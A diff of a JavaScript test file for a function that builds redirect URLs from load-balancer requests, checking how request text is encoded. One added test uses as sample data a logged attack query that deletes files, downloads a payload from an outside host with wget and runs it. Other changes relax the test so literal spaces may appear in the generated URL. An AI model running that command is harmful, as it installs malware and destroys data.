@@ -53,19 +53,23 @@ test('ALB-LSN-108 only #{…} is a keyword, and text of the request never become
   assert.equal(location({}, { path: '/#{host}', query: '#{port}$&' }), 'http://h:80/#{host}?#{port}$&')
 })
 
-test('ALB-LSN-111 values of the request stay as they were encoded', () => {
+test('ALB-LSN-111 values of the request stay as they were encoded, and blanks as they were not', () => {
   assert.equal(location({}, { path: '/a%20b%2f' }), 'http://h:80/a%20b%2f?q=1')
+  // elastic/integrations#3491: the line has this URL, and 390 bytes.
+  const query = 'cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws'
+  const sent = location({ protocol: 'HTTPS', port: '443' }, { host: '127.0.0.1', path: '/shell', query })
+  assert.equal(sent, `https://127.0.0.1:443/shell?${query}`)
 })
 
 test('no byte of a request can end the header field', () => {
   assert.equal(
     location({}, { path: '/a\r\nX: 1', host: 'h\0', query: '\t\u00e9\u007f' }),
-    'http://h%00:80/a%0D%0AX:%201?%09%E9%7F',
+    'http://h%00:80/a%0D%0AX: 1?%09%E9%7F',
   )
   const text = fc.string({ unit: fc.nat({ max: 255 }).map((code) => String.fromCharCode(code)) })
   fc.assert(
     fc.property(text, text, fc.option(text), (host, path, query) => {
-      assert.match(location({}, { host, path, query }), /^[\x21-\x7e]+$/)
+      assert.match(location({}, { host, path, query }), /^[\x20-\x7e]+$/)
     }),
   )
 })
@@ -74,5 +78,5 @@ test('ALB-OBS-517 a URL may have 8192 bytes and not one more', () => {
   const rest = 'http://h:80/?q=1'.length
   assert.equal(location({}, { path: `/${'a'.repeat(8192 - rest)}` }).length, 8192)
   assert.equal(location({}, { path: `/${'a'.repeat(8193 - rest)}` }), 'too long')
-  assert.equal(location({}, { path: `/${' '.repeat(2731)}` }), 'too long')
+  assert.equal(location({}, { path: `/${'\u00e9'.repeat(2731)}` }), 'too long')
 })
